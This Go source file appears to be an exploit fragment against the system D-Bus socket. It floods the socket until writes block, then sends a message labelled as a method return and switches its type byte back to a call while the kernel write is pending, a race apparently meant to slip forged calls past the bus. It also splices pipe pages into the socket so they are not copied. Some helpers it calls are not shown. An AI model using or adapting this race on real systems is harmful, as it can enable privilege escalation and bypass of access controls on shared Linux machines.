package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"runtime"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// onSocket does something with the descriptor of a connection.
func onSocket(conn *net.UnixConn, do func(fd int) error) error {
	raw, err := conn.SyscallConn()
	if err != nil {
		return err
	}
	return errors.Join(raw.Control(func(fd uintptr) { err = do(int(fd)) }), err)
}

// splice hands pages over that are not copied.
func splice(conn *net.UnixConn, call []byte) error {
	r, w, err := os.Pipe()
	if err != nil {
		return err
	}
	defer func() { _ = errors.Join(r.Close(), w.Close()) }()
	if _, err := w.Write(call); err != nil {
		return err
	}
	return onSocket(conn, func(fd int) error {
		n, err := unix.Splice(int(r.Fd()), nil, fd, nil, len(call), 0)
		if err == nil && int(n) != len(call) {
			err = fmt.Errorf("%d of %d bytes were spliced", n, len(call))
		}
		return err
	})
}

// withAddress sends nothing, for the kernel refuses the address.
func withAddress(conn *net.UnixConn, call []byte) error {
	return onSocket(conn, func(fd int) error {
		err := unix.Sendto(fd, call, 0, &unix.SockaddrUnix{Name: "/run/dbus/system_bus_socket"})
		if !errors.Is(err, unix.EISCONN) {
			return fmt.Errorf("sending with an address: %w", err)
		}
		return nil
	})
}

// methodReturn is the type of an answer, in the second byte of a message.
const methodReturn = 2

// swap fills the socket, whose other end must not read meanwhile. Then it sends an
// answer. While that waits for room it becomes the call that it was made of.
func swap(conn *net.UnixConn, call []byte) error {
	if err := fillSocket(conn); err != nil {
		return err
	}
	file, err := conn.File() // shares the socket, and is made blocking
	if err != nil {
		return err
	}
	defer func() { _ = file.Close() }()
	fd := int(file.Fd())
	if err := unix.SetNonblock(fd, false); err != nil {
		return err
	}
	kind := call[1]
	call[1] = methodReturn
	thread, written := make(chan int), make(chan error)
	go func() {
		runtime.LockOSThread()
		thread <- unix.Gettid()
		n, err := unix.Write(fd, call)
		if err == nil && n != len(call) {
			err = fmt.Errorf("%d of %d bytes were written", n, len(call))
		}
		written <- err
	}()
	if err := untilItWrites(<-thread); err != nil {
		return err
	}
	call[1] = kind
	fmt.Println("swapped")
	return errors.Join(<-written, unix.SetNonblock(fd, true))
}

// fillSocket asks the bus until the socket takes no more, and is in step with it then.
func fillSocket(conn *net.UnixConn) error {
	ask, err := message(9, theBus, theBus, "NameHasOwner", strings.Repeat("long", 1<<12)) // so that few fill it
	if err != nil {
		return err
	}
	return onSocket(conn, func(fd int) error {
		for {
			n, err := unix.Write(fd, ask)
			if errors.Is(err, unix.EAGAIN) {
				return nil
			}
			if err != nil || n != len(ask) {
				return fmt.Errorf("%d of %d bytes were written: %w", n, len(ask), err)
			}
		}
	})
}

// untilItWrites waits until a thread sleeps in write.
func untilItWrites(tid int) error {
	for {
		text, err := os.ReadFile(fmt.Sprintf("/proc/self/task/%d/syscall", tid))
		if err != nil {
			return err
		}
		if strings.HasPrefix(string(text), fmt.Sprintf("%d ", unix.SYS_WRITE)) {
			return nil
		}
		time.Sleep(time.Millisecond)
	}
}
